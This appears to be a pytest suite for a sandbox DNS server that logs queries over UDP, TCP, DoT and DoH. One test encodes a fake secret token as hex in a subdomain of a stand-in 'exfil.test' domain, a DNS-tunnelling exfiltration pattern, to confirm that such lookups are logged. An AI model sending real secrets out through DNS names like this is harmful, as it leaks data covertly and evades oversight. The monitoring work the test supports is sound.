"""The DNS server over UDP, TCP, DoT and DoH, with every question in its log."""

from __future__ import annotations

import json
import socket
import ssl
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import dns.flags
import dns.message
import dns.query
import dns.rcode
import httpx
import httpx2
import pytest

from sandgate.gateway.proxy.ca import make_ca
from sandgate.world.servers.launch import read_log, start, wait_log

ZONE = {
    "origin": "example.test",
    "records": [
        {"name": "@", "type": "A", "value": "203.0.113.10", "ttl": 30},
        {"name": "www", "type": "CNAME", "value": "@"},
        *[{"name": "big", "type": "A", "value": f"203.0.113.{i}"} for i in range(1, 61)],
    ],
}


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    tmp = tmp_path_factory.mktemp("dns")
    make_ca("sg dns test CA").save(tmp / "ca")
    exfil = {"origin": "exfil.test", "records": [{"type": "A", "value": "198.51.100.66"}]}
    config = {
        "listen": ["127.0.0.1:0"],
        "dot": ["127.0.0.1:0"],
        "doh": ["127.0.0.1:0"],
        "ca_dir": str(tmp / "ca"),
        "tls_names": ["dns.test"],
        "zones": [ZONE, exfil],
    }
    (tmp / "dns.json").write_text(json.dumps(config))
    args = [
        "--config",
        str(tmp / "dns.json"),
        "--log",
        str(tmp / "log"),
        "--wildcard",
        "exfil.test",
    ]
    with start("dns", args) as running:
        ready = running.ready

        def port(key: str) -> int:
            return int(ready[key][0].rsplit(":", 1)[1])

        yield {
            "port": port("listen"),
            "dot": port("dot"),
            "doh": port("doh"),
            "ca": str(tmp / "ca" / "ca.pem"),
            "log": tmp / "log",
            "ready": ready,
        }


def _query(name: str, rdtype: str = "A", **kw: Any) -> dns.message.Message:
    return dns.message.make_query(name, rdtype, **kw)


def test_ready_line(server: dict[str, Any]) -> None:
    assert server["ready"]["zones"] == ["example.test", "exfil.test"]


def test_udp_and_tcp_answers(server: dict[str, Any]) -> None:
    udp = dns.query.udp(_query("www.example.test"), "127.0.0.1", port=server["port"], timeout=3)
    assert [rd.to_text() for rrset in udp.answer for rd in rrset] == [
        "example.test.",
        "203.0.113.10",
    ]
    assert udp.flags & dns.flags.AA
    tcp = dns.query.tcp(_query("example.test"), "127.0.0.1", port=server["port"], timeout=3)
    assert tcp.answer[0].ttl == 30
    nx = dns.query.udp(_query("nope.example.test"), "127.0.0.1", port=server["port"], timeout=3)
    assert nx.rcode() == dns.rcode.NXDOMAIN
    refused = dns.query.udp(_query("example.org"), "127.0.0.1", port=server["port"], timeout=3)
    assert refused.rcode() == dns.rcode.REFUSED


def test_truncation_then_tcp(server: dict[str, Any]) -> None:
    small = dns.query.udp(_query("big.example.test"), "127.0.0.1", port=server["port"], timeout=3)
    assert small.flags & dns.flags.TC
    response, used_tcp = dns.query.udp_with_fallback(
        _query("big.example.test"), "127.0.0.1", port=server["port"], timeout=3
    )
    assert used_tcp and len(response.answer[0]) == 60
    edns = dns.query.udp(
        _query("big.example.test", use_edns=0, payload=4096), "127.0.0.1", port=server["port"]
    )
    assert not edns.flags & dns.flags.TC and len(edns.answer[0]) == 60
    records = [r for r in read_log(server["log"]) if r.get("qname") == "big.example.test."]
    assert [r["transport"] for r in records][:3] == ["udp", "udp", "tcp"]
    assert records[0]["truncated"] is True


def test_exfil_names_are_answered_and_logged(server: dict[str, Any]) -> None:
    secret = "73656372657420746f6b656e20736b2d6c6976652d31323334353637383930" + "a"  # 63
    name = f"{secret}.chunk1.exfil.test"
    response = dns.query.udp(_query(name, "TXT"), "127.0.0.1", port=server["port"], timeout=3)
    assert response.rcode() == dns.rcode.NOERROR  # wildcard: the name exists (no TXT though)
    a = dns.query.tcp(_query(name), "127.0.0.1", port=server["port"], timeout=3)
    assert a.answer[0][0].to_text() == "198.51.100.66"
    record = wait_log(server["log"], lambda r: r.get("qname") == name + "." and r["qtype"] == "TXT")
    assert record["transport"] == "udp" and record["src"].startswith("127.0.0.1:")


def test_dot(server: dict[str, Any]) -> None:
    ctx = ssl.create_default_context(cafile=server["ca"])
    response = dns.query.tls(
        _query("example.test"),
        "127.0.0.1",
        port=server["dot"],
        ssl_context=ctx,
        server_hostname="dns.test",
        timeout=3,
    )
    assert response.answer[0][0].to_text() == "203.0.113.10"
    assert (
        wait_log(server["log"], lambda r: r.get("transport") == "dot")["qname"] == "example.test."
    )


@pytest.mark.parametrize("post", [True, False])
def test_doh(server: dict[str, Any], post: bool) -> None:
    ctx = ssl.create_default_context(cafile=server["ca"])
    # dnspython 2.9 speaks DoH through httpx2
    with httpx2.Client(verify=ctx, trust_env=False, timeout=3) as session:
        response = dns.query.https(
            _query(f"doh{int(post)}.exfil.test"),
            f"https://127.0.0.1:{server['doh']}/dns-query",
            session=session,
            post=post,
        )
    assert response.answer[0][0].to_text() == "198.51.100.66"
    record = wait_log(server["log"], lambda r: r.get("qname") == f"doh{int(post)}.exfil.test.")
    assert record["transport"] == "doh"


def test_doh_rejects_wrong_content_type(server: dict[str, Any]) -> None:
    ctx = ssl.create_default_context(cafile=server["ca"])
    with httpx.Client(verify=ctx, trust_env=False, timeout=3) as c:
        url = f"https://127.0.0.1:{server['doh']}/dns-query"
        assert c.post(url, content=b"x", headers={"content-type": "text/plain"}).status_code == 415
        assert c.get(url, params={"dns": "!!!"}).status_code == 400


def test_malformed_packets_are_logged(server: dict[str, Any]) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"\x12\x34garbage", ("127.0.0.1", server["port"]))
    record = wait_log(
        server["log"], lambda r: r["event"] == "malformed" and r["transport"] == "udp"
    )
    assert record["size"] == 9 and record["head"] == b"\x12\x34garbage".hex()


def test_needs_an_address(tmp_path: Path) -> None:
    from sandgate.world.servers.launch import ServerFailed

    with pytest.raises(ServerFailed, match="exited"):
        start("dns", ["--log", str(tmp_path / "x")])
